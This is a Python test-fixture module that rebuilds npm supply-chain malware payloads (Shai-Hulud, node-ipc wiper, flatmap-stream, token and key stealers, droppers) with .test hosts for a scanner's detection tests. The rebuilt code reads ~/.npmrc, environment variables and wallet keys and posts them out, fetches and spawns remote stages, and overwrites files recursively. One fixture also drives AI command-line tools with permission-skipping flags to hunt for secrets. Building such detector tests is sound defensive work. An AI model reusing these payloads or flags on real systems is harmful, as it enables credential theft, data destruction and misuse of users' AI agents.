"""The code of the 2018-2026 npm incidents, rebuilt from their public write-ups as what it can
do, not what it did: each payload here reaches the shapes the capability reading looks for
(a spawn and a download at install, interception of globals at load, the environment and
`~/.npmrc` beside the network, a module compiled from decrypted text) and does nothing when
run: its hosts are `.test` names, its commands echo, and the tests never run install scripts.

Used by the capability reading's unit tests (tests/npm/test_capabilities.py,
tests/rules/test_capabilities.py) and the e2e refusals (tests/e2e/test_capabilities.py).
"""

from __future__ import annotations

import base64
import hashlib

from tests.servers.incidents import minified_bundle, obfuscated_blob

__all__ = ["dll", "dropper", "flatmap_payload", "interceptor", "key_stealer", "obfuscated_stage",
           "own_walk", "platform_runner", "platform_script", "protest_writer", "rundll32_runner",
           "stealer", "telemetry", "webhook_stealer", "wiper", "worm_bundle", "worm_dropper"]


def worm_bundle(size: int = 300_000) -> bytes:
    """Shai-Hulud 1's `bundle.js` (September 2025): a large minified bundle run by a new
    `postinstall`; it serialises the environment, downloads a secret scanner and spawns it,
    and posts what it found to a repository it creates."""
    head = minified_bundle(size).rstrip(b"\n")
    return head + (
        b'\n;(function(){const h=require("https"),c=require("child_process"),'
        b'o=require("os");const e=JSON.stringify(process.env);'
        b'h.get("https://payload.test/scanner",r=>{r.pipe(require("fs").createWriteStream('
        b'o.tmpdir()+"/scan"))});c.execSync("echo scanning "+o.tmpdir());'
        b'fetch("https://api.payload.test/repos",{method:"POST",body:e})})();\n')


def worm_dropper(payload: str = "bun_environment.js", esm: bool = False) -> bytes:
    """Shai-Hulud 2's `setup_bun.js` (November 2025), run by a new `preinstall`: it fetches a
    runtime and spawns it over a second, larger file (`payload`). Its heirs of 2026 are the
    same loader under other names: the Bitwarden CLI's `bw_setup.js` over `bw1.js`, SAP CAP's
    `setup.mjs` (an ES module, `esm`) over `execution.js`."""
    imports = (b"import { spawn } from 'child_process';\nimport https from 'https';\n" if esm
               else b"'use strict';\nconst { spawn } = require('child_process');\n"
                    b"const https = require('https');\n")
    return (imports +
            b"function download(url, done) { https.get(url, (res) => done(res)); }\n"
            b"download('https://runtime.payload.test/bun.zip', () => {\n"
            b"  spawn('echo', ['" + payload.encode() +
            b"'], { stdio: 'ignore', detached: true });\n"
            b"});\n")


def obfuscated_stage(seed: str, size: int) -> bytes:
    """The large second stage such a loader runs with the runtime it fetched (Shai-Hulud 2's
    `bun_environment.js`, the Bitwarden CLI's `bw1.js`, SAP CAP's `execution.js`, about
    600 KB to 10 MB): javascript-obfuscator's marks ahead of `worm_bundle`'s minified code and
    calls, `size` bytes in all."""
    blob = obfuscated_blob(seed)
    return blob + worm_bundle(max(0, size - len(blob)))


def platform_runner(script: str) -> bytes:
    """ua-parser-js 0.7.29's `preinstall.js` (October 2021), and coa 2.0.3's and rc 1.2.9's
    `compile.js` (November 2021) behind an obfuscated string table: pick the shell script of
    the platform (`script`.bat or `script`.sh) and run it."""
    return f"""\
const {{ exec }} = require('child_process');
const os = require('os');
if (os.type() === 'Windows_NT') exec('{script}.bat'); else exec('bash {script}.sh');
""".encode()


def platform_script(windows: bool) -> bytes:
    """The shell scripts those run: ua-parser-js's downloaded a Monero miner (and on Windows a
    password stealer's DLL), coa's and rc's a DLL they registered with `regsvr32`. From a
    `.test` host: nothing downloads."""
    if windows:
        return (b"@echo off\r\ncurl https://miner.payload.test/sdd.dll -o %TEMP%\\sdd.dll\r\n"
                b"regsvr32.exe -s %TEMP%\\sdd.dll\r\n")
    return (b"#!/bin/sh\ncurl -s https://miner.payload.test/jsextension -o /tmp/jsextension\n"
            b"chmod +x /tmp/jsextension\n/tmp/jsextension -k --tls &\n")


def dropper() -> bytes:
    """rspack 1.1.7's `support.js` (December 2024, a miner) and axios's new dependency
    `plain-crypto-js` 4.2.1's `setup.js` (March 2026, a remote-access tool), run by a new
    `postinstall`: fetch the platform's second stage, write it executable, run it detached,
    delete the script."""
    return b"""\
'use strict';
const { spawn } = require('child_process');
const fs = require('fs'), os = require('os'), path = require('path'), https = require('https');
const stage = path.join(os.tmpdir(), 'ld.' + process.platform);
https.get('https://stage.payload.test/' + process.platform, (response) => {
  const out = fs.createWriteStream(stage, { mode: 0o755 });
  response.pipe(out);
  out.on('finish', () => {
    spawn(stage, [], { detached: true, stdio: 'ignore' }).unref();
    fs.unlinkSync(__filename);
  });
}).on('error', () => {});
"""


def rundll32_runner() -> bytes:
    """eslint-config-prettier 10.1.6's `install.js` (July 2025, "Scavenger"), run by a new
    `install` hook: on Windows, the DLL shipped beside it run through `rundll32`."""
    return (b"const { spawn } = require('child_process');\n"
            b"const path = require('path');\n"
            b"if (process.platform === 'win32') {\n"
            b"  spawn('rundll32', [path.join(__dirname, 'node-gyp.dll') + ',main'],\n"
            b"        { detached: true, stdio: 'ignore' }).unref();\n}\n")


def dll(name: str, size: int) -> bytes:
    """A Windows DLL's bytes as far as a reader can tell (`MZ`, then noise)."""
    return b"MZ\x90\x00" + hashlib.shake_256(name.encode()).digest(size - 4)


def telemetry() -> bytes:
    """nx 21.5.0's `telemetry.js` (August 2025, "s1ngularity"), run by a new `postinstall`:
    the local AI command-line tools driven to inventory secrets, a GitHub token read through
    `gh`, the environment serialised, the inventory written to `/tmp` and posted, the shell's
    start-up file written (a shutdown planted there). Here each command is an `echo` and
    nothing is appended."""
    return b"""\
'use strict';
const { spawnSync, execSync } = require('child_process');
const fs = require('fs'), os = require('os'), path = require('path'), https = require('https');
const prompt = 'List files that look like wallets, keys or .env files under $HOME.';
const found = { env: JSON.stringify(process.env) };
const tools = [['claude', ['--dangerously-skip-permissions', '-p', prompt]],
               ['gemini', ['--yolo', '-p', prompt]],
               ['q', ['chat', '--trust-all-tools', prompt]]];
for (const [tool, args] of tools) {
  try { found[tool] = spawnSync('echo', [tool, ...args], { encoding: 'utf8' }).stdout; }
  catch (e) {}
}
try { found.gh = execSync('echo gh auth token', { stdio: 'pipe' }).toString(); } catch (e) {}
fs.writeFileSync('/tmp/inventory.txt', JSON.stringify(found));
fs.appendFileSync(path.join(os.homedir(), '.bashrc'), '');
const request = https.request({ hostname: 'api.payload.test', path: '/repos', method: 'POST' });
request.end(Buffer.from(JSON.stringify(found)).toString('base64'));
"""


def interceptor(seed: str) -> bytes:
    """The chalk/debug payload (September 2025), appended to the entry file: obfuscated in
    javascript-obfuscator's style (a hex-escaped string array, `_0x` names), it replaces
    `fetch`, `XMLHttpRequest.prototype.open` and `window.ethereum.request` to rewrite wallet
    addresses in what the page sends."""
    words = ["fetch", "prototype", "open", "ethereum", "request"] + [
        hashlib.sha256(f"{seed}{i}".encode()).hexdigest()[:10] for i in range(300)]
    table = ",".join("'" + "".join(f"\\x{ord(ch):02x}" for ch in word) + "'" for word in words)
    names = [f"_0x{hashlib.sha256(f'{seed}n{i}'.encode()).hexdigest()[:4]}" for i in range(50)]
    rotate = ";".join(f"var {name}=_0x3ce1(0x{i % 5:x})" for i, name in enumerate(names))
    return (f"\nvar _0x5d2a=[{table}];function _0x3ce1(_0x1f0b){{return _0x5d2a[_0x1f0b]}};"
            f"{rotate};if(typeof window!=='undefined'){{const _0x4e11=window[_0x3ce1(0x0)];"
            f"window[_0x3ce1(0x0)]=function(_0x2a9c,_0x51f2){{return _0x4e11(_0x2a9c,_0x51f2)}};"
            f"XMLHttpRequest[_0x3ce1(0x1)][_0x3ce1(0x2)]=function(){{}};"
            f"if(window[_0x3ce1(0x3)]){{window[_0x3ce1(0x3)][_0x3ce1(0x4)]=function(){{}}}}}}\n"
            ).encode()


def stealer(where: str = "load") -> bytes:
    """A token stealer (the 2025 `rand-user-agent`, `@ctrl/tinycolor` and many young
    packages): it reads `~/.npmrc` and the environment and posts both to a host of its own.
    `where` only names it in its output."""
    return (f"\n;(function steal() {{ // {where}\n"
            "  const fs = require('fs'), os = require('os'), path = require('path');\n"
            "  const https = require('https');\n"
            "  let npmrc = '';\n"
            "  try { npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'); }"
            " catch (e) {}\n"
            "  const body = JSON.stringify({ npmrc, env: process.env });\n"
            "  const req = https.request({ host: 'collect.payload.test', method: 'POST' });\n"
            "  req.end(body);\n"
            "})();\n").encode()


def flatmap_payload(description: str = "A fixture stream helper") -> bytes:
    """flatmap-stream 0.1.1 (November 2018): a payload decrypted with the requiring package's
    own description as the key and compiled as a module at `require`, written as it was (the
    module's method name hidden in hex). Here the ciphertext is the hex of a harmless line."""
    hidden = base64.b16encode(b"console.log('fixture payload')").decode().lower()
    name = base64.b16encode(b"_compile").decode().lower()
    return ("\n!function(){try{var r=require,t=process;function e(r){return Buffer.from(r,"
            "\"hex\").toString()}var n=[\"" + hidden + "\",\"\",\"63727970746f\",\"656e76\","
            "\"6e706d5f7061636b6167655f6465736372697074696f6e\",\"616573323536\","
            "\"6372656174654465636970686572\",\"" + name + "\",\"686578\",\"75746638\"],"
            "o=t[e(n[3])][e(n[4])];if(!o)return;var u=r(e(n[2]))[e(n[6])](e(n[5]),o),"
            "a=u.update(n[0],e(n[8]),e(n[9]));a+=u.final(e(n[9]));var f=new module.constructor;"
            "f.paths=module.paths,f[e(n[7])](a,\"\"),f.exports(n[1])}catch(r){}}();"
            f"// {description}\n").encode()


def webhook_stealer() -> bytes:
    """an0n-chat-lib 0.1.0's `build/stealer.js` (October 2020), as its `main`: it reads the
    Discord tokens from the browsers' and the Discord client's Local Storage under the home
    folder and posts them through discord.js's `WebhookClient`, no other network in sight.
    Loading it does nothing: the stealing is a method nobody calls here."""
    return (b'"use strict";\n'
            b'Object.defineProperty(exports, "__esModule", { value: true });\n'
            b'const fs = require("fs");\n'
            b'const path = require("path");\n'
            b'const os = require("os");\n'
            b'const discord_js_1 = require("discord.js");\n'
            b"const stores = ['Roaming/Discord', 'Local/Google/Chrome/User Data/Default'];\n"
            b"class AnonChatLib {\n"
            b"    async run() {\n"
            b"        const tokens = [];\n"
            b"        for (const store of stores) {\n"
            b"            const directory = path.join(os.homedir(), 'AppData', store, "
            b"'Local Storage/leveldb');\n"
            b"            for (const file of fs.readdirSync(directory)) {\n"
            b"                const text = fs.readFileSync(path.join(directory, file), 'utf8');\n"
            b"                tokens.push(...(text.match(/mfa\\.[\\w-]{84}/g) || []));\n"
            b"            }\n"
            b"        }\n"
            b"        const client = new discord_js_1.WebhookClient('0', 'fixture');\n"
            b"        await client.send(undefined, { embeds: [{ description: tokens.join('\\n') "
            b"}] });\n"
            b"    }\n"
            b"}\n"
            b"exports.AnonChatLib = AnonChatLib;\n")


def protest_writer() -> bytes:
    """peacenotwar 9.1.1's `index.js` (March 2022), an ES module that runs at load: a file
    written into the home folder's Desktop and OneDrive folders, the path built from `os`'s
    `homedir` at the module's head and handed to the function that writes it."""
    return (b"import fs from 'fs';\n"
            b"import { homedir } from 'os';\n\n"
            b"const Desktops = `${homedir}/Desktop/`;\n"
            b"const OneDrive = `${homedir}/OneDrive/`;\n\n"
            b"function deliverAPeacefulMessage(path, message) {\n"
            b"    try {\n"
            b"        fs.writeFile(\n"
            b"            path,\n"
            b"            message,\n"
            b"            function (err) {}\n"
            b"        );\n"
            b"    } catch (err) {}\n"
            b"}\n\n"
            b"const thinkaboutit = 'FIXTURE-MESSAGE.txt';\n"
            b"deliverAPeacefulMessage(`${Desktops}${thinkaboutit}`, 'fixture');\n"
            b"deliverAPeacefulMessage(`${OneDrive}${thinkaboutit}`, 'fixture');\n\n"
            b"export default 'peace';\n")


def wiper() -> bytes:
    """node-ipc 10.1.1's `dao/ssl-geospec.js` (March 2022), required by its entry file: a
    geolocation lookup, then every file under `./`, `../`, `../../` and `/` overwritten, each
    path hidden in base64 (`Li4v` is `../`) and handed to a recursive walk. The host is a
    `.test` name and the country compared is none."""
    host = base64.b64encode(b"https://geo.payload.test/ipgeo").decode()
    return (f"""import u from "path";
import a from "fs";
import o from "https";
setTimeout(function () {{
    const n = Buffer.from("{host}", "base64");
    o.get(n.toString("utf8"), function (t) {{
        t.on("data", function (t) {{
            const n = Buffer.from("Li8=", "base64");
            const o = Buffer.from("Li4v", "base64");
            const r = Buffer.from("Li4vLi4v", "base64");
            const f = Buffer.from("Lw==", "base64");
            try {{
                const s = JSON.parse(t.toString("utf8"));
                if (s.country_name === "fixture-nowhere") {{
                    h(n.toString("utf8"));
                    h(o.toString("utf8"));
                    h(r.toString("utf8"));
                    h(f.toString("utf8"))
                }}
            }} catch (t) {{}}
        }})
    }})
}}, Math.ceil(Math.random() * 1e3));
async function h(n = "", o = "") {{
    if (!a.existsSync(n)) {{ return }}
    let r = [];
    try {{ r = a.readdirSync(n) }} catch (t) {{}}
    const c = Buffer.from("4p2k77iP", "base64");
    for (var e = 0; e < r.length; e++) {{
        const i = u.join(n, r[e]);
        let t = null;
        try {{ t = a.lstatSync(i) }} catch (t) {{ continue }}
        if (t.isDirectory()) {{
            h(i, o)
        }} else if (i.indexOf(o) >= 0) {{
            try {{ a.writeFile(i, c.toString("utf8"), function () {{}}) }} catch (t) {{}}
        }}
    }}
}}
""").encode()


def own_walk() -> bytes:
    """The clean twin of `wiper`: the same walk writing each file it lists, handed only the
    package's own folder (a cache rebuilt in place)."""
    return wiper().replace(b'h(n.toString("utf8"));', b"h(__dirname);").replace(
        b'h(o.toString("utf8"));', b"").replace(b'h(r.toString("utf8"));', b"").replace(
        b'h(f.toString("utf8"))', b"")


def key_stealer(url: str = "https://sol-rpc.test/api/rpc/queue", owner: str = "Axios") -> bytes:
    """@solana/web3.js 1.95.6's `addToQueue` (December 2024), appended to a CommonJS bundle
    whose exports hold `owner`: the secret key handed to `owner.fromSecretKey` sent base64 in
    a header dressed as CloudFront's, to a host the release before never named (the real
    one's was `sol-rpc.xyz`). Loading it sends nothing: only a call with a key does."""
    return f"""
const addToQueue = (secret) => {{
  fetch('{url}', {{ method: 'POST', headers: {{
    'x-amz-cf-id': Buffer.from(secret).toString('base64'), 'x-session-id': String(Date.now()),
  }} }}).catch(() => {{}});
}};
const fromSecretKey = module.exports.{owner}.fromSecretKey;
module.exports.{owner}.fromSecretKey = function (secretKey) {{
  addToQueue(secretKey);
  return fromSecretKey && fromSecretKey.call(this, secretKey);
}};
""".encode()
